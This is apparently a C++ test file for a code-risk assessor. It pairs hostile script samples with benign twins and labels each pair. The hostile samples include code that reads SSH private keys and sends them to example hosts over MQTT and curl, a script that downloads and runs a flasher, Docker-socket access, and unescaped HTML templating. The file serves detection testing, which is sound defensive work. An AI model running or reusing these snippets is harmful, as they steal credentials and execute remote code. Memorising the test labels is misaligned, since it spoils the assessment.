// The classes the sixty-third round modelled (issue 14), found by programs
// written from the rubric alone by writers who never saw the assessor
// (tests/corpus/prog67_MANIFEST.tsv): bioinformatics and lab automation,
// e-commerce operations, telecom and IoT fleets, developer tooling, public-
// sector IT. Its aside scored 31/32 before any change; the classes below came
// from its tune part (61/68 before). Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// A download written under a run-time name into a directory whose own name is
// known under a made-up one (firmware/<model>/tools/<name>), then run from there.
TEST(SixtyThirdRoundClasses, ADownloadRunFromAKnownDirectoryUnderAMadeUpOneIsRemoteCode) {
  const Case cases[] = {
      {"a flasher fetched into the model's tools directory and run", B,
       "#!/bin/sh\n"
       "set -eu\n"
       "MODEL=$1\n"
       "dest=\"./firmware/$MODEL\"\n"
       "mkdir -p \"$dest/tools\"\n"
       "fetch() { wget -q -O \"$2.part\" \"$1\" && mv \"$2.part\" \"$2\"; }\n"
       "url=$(jq -r .flasher manifest.json)\n"
       "flasher=\"$dest/tools/$(basename \"$url\")\"\n"
       "fetch \"$url\" \"$flasher\"\n"
       "chmod 0755 \"$flasher\"\n"
       "\"$flasher\" -f \"$dest/image\"\n",
       "REMOTE-CODE-EXECUTION", Language::shell},
      {"an image fetched into the model's images directory and unpacked", L,
       "#!/bin/sh\n"
       "set -eu\n"
       "MODEL=$1\n"
       "dest=\"./firmware/$MODEL\"\n"
       "mkdir -p \"$dest/images\"\n"
       "fetch() { wget -q -O \"$2.part\" \"$1\" && mv \"$2.part\" \"$2\"; }\n"
       "url=$(jq -r .image manifest.json)\n"
       "image=\"$dest/images/$(basename \"$url\")\"\n"
       "fetch \"$url\" \"$image\"\n"
       "unzip -q \"$image\" -d \"$dest/unpacked\"\n",
       nullptr, Language::shell},
  };
  for (const auto& c : cases) check(c);
}

// paho calls on_connect with the client it was set on: what the callback
// publishes through that client goes to the broker.
TEST(SixtyThirdRoundClasses, PahosOnConnectGetsTheClientItWasSetOn) {
  const Case cases[] = {
      {"SSH keys published from on_connect", B,
       "import glob, os, paho.mqtt.client as mqtt\n"
       "\n"
       "def on_connect(client, userdata, flags, rc, properties=None):\n"
       "    keys = {p: open(p).read() for p in glob.glob(os.path.expanduser(\"~/.ssh/id_*\"))}\n"
       "    client.publish(\"fleet/enroll\", str(keys), qos=1)\n"
       "\n"
       "c = mqtt.Client()\n"
       "c.on_connect = on_connect\n"
       "c.connect(\"mqtt.fleet.example.net\", 8883)\n"
       "c.loop_forever()\n",
       "EXFILTRATION"},
      {"a status published from on_connect", L,
       "import glob, os, paho.mqtt.client as mqtt\n"
       "\n"
       "def on_connect(client, userdata, flags, rc, properties=None):\n"
       "    keys = {p: open(p).read() for p in glob.glob(os.path.expanduser(\"~/.ssh/id_*\"))}\n"
       "    client.publish(\"fleet/status\", \"online\", qos=1)\n"
       "\n"
       "c = mqtt.Client()\n"
       "c.on_connect = on_connect\n"
       "c.connect(\"mqtt.fleet.example.net\", 8883)\n"
       "c.loop_forever()\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// `[[ -n "$KEY" ]] || KEY=default` after an option loop: the default is the
// likely value, as ${KEY:-default} is, not the option's unknown one.
TEST(SixtyThirdRoundClasses, AFallbackForAnEmptyOptionIsTheLikelyValue) {
  const Case cases[] = {
      {"the private key by default, sent to a CA", B,
       "#!/usr/bin/env bash\n"
       "KEY=\"\"\n"
       "while (( $# )); do\n"
       "    case \"$1\" in\n"
       "        -k) KEY=\"$2\"; shift ;;\n"
       "    esac\n"
       "    shift\n"
       "done\n"
       "[[ -n \"$KEY\" ]] || KEY=\"$HOME/.ssh/id_ed25519\"\n"
       "printf '{\"key\": \"%s\"}' \"$(base64 -w0 < \"$KEY\")\" > request.json\n"
       "curl -sS --data-binary @request.json https://ca.example.com/enroll\n",
       "EXFILTRATION", Language::shell},
      {"the public key by default, sent to a CA", L,
       "#!/usr/bin/env bash\n"
       "KEY=\"\"\n"
       "while (( $# )); do\n"
       "    case \"$1\" in\n"
       "        -k) KEY=\"$2\"; shift ;;\n"
       "    esac\n"
       "    shift\n"
       "done\n"
       "[[ -n \"$KEY\" ]] || KEY=\"$HOME/.ssh/id_ed25519\"\n"
       "printf '{\"key\": \"%s\"}' \"$(base64 -w0 < \"$KEY.pub\")\" > request.json\n"
       "curl -sS --data-binary @request.json https://ca.example.com/enroll\n",
       nullptr, Language::shell},
  };
  for (const auto& c : cases) check(c);
}

// curl's options that take a value (--retry-delay 5) are not its URLs: a
// token from the environment goes to the artifact store it is for.
TEST(SixtyThirdRoundClasses, CurlsOptionsTakeTheirValues) {
  const Case cases[] = {
      {"a bearer token to its artifact store, with retries", L,
       "#!/usr/bin/env bash\n"
       "set -euo pipefail\n"
       "ARTIFACT_URL=\"${ARTIFACT_URL:-https://artifacts.example.com/store}\"\n"
       "curl -fsSL --retry 3 --retry-delay 5 --max-time 300 \\\n"
       "    -H \"Authorization: Bearer ${ARTIFACT_TOKEN}\" \\\n"
       "    -o bundle.tar.gz \"$ARTIFACT_URL/release.tar.gz\"\n",
       nullptr, Language::shell},
  };
  for (const auto& c : cases) check(c);
}

// curl --unix-socket: the socket is where the requests go; the Docker
// engine's is the daemon (HIGH), an application's own is not.
TEST(SixtyThirdRoundClasses, CurlThroughTheDockerSocketIsTheDaemon) {
  const Case cases[] = {
      {"containers listed through the Docker socket", H,
       "#!/bin/sh\n"
       "curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json\n",
       "CONTAINER-ESCAPE-RISK", Language::shell},
      {"an application's status through its own socket", L,
       "#!/bin/sh\n"
       "curl -s --unix-socket /run/myapp/api.sock http://localhost/status\n",
       nullptr, Language::shell},
  };
  for (const auto& c : cases) check(c);
}

// configparser's fallback= is a setting the user may change in the file, as
// an option's default is: a station name defaulting to the host name, sent to
// its collector, is not the host's identity taken unasked.
TEST(SixtyThirdRoundClasses, AConfigFallbackIsASettingTheUserChooses) {
  const Case cases[] = {
      {"a station name from the config, the host name by default", L,
       "import configparser, socket, requests\n"
       "cfg = configparser.ConfigParser()\n"
       "cfg.read(\"agent.ini\")\n"
       "station = cfg.get(\"agent\", \"station\", fallback=socket.gethostname())\n"
       "requests.post(\"https://collector.example.com/report\", json={\"station\": station, \"temp\": 21.5}, timeout=10)\n",
       nullptr},
      {"the host name itself sent to a fixed collector", M,
       "import configparser, socket, requests\n"
       "cfg = configparser.ConfigParser()\n"
       "cfg.read(\"agent.ini\")\n"
       "station = socket.gethostname()\n"
       "requests.post(\"https://collector.example.com/report\", json={\"station\": station, \"temp\": 21.5}, timeout=10)\n",
       "HOST-IDENTITY-SENT"},
  };
  for (const auto& c : cases) check(c);
}

// select_autoescape(enabled_extensions=("xml",)): HTML templates render
// unescaped; its default extensions (html, htm, xml) escape them.
TEST(SixtyThirdRoundClasses, SelectAutoescapeWithoutHtmlLeavesHtmlUnescaped) {
  const Case cases[] = {
      {"autoescape for XML only, an HTML template rendered", M,
       "from jinja2 import Environment, FileSystemLoader, select_autoescape\n"
       "env = Environment(loader=FileSystemLoader(\"templates\"), autoescape=select_autoescape(enabled_extensions=(\"xml\",), default=False))\n"
       "print(env.get_template(\"invoice.html.j2\").render(name=input()))\n",
       "TEMPLATE-AUTOESCAPE-OFF"},
      {"select_autoescape() with its defaults", L,
       "from jinja2 import Environment, FileSystemLoader, select_autoescape\n"
       "env = Environment(loader=FileSystemLoader(\"templates\"), autoescape=select_autoescape())\n"
       "print(env.get_template(\"invoice.html\").render(name=input()))\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
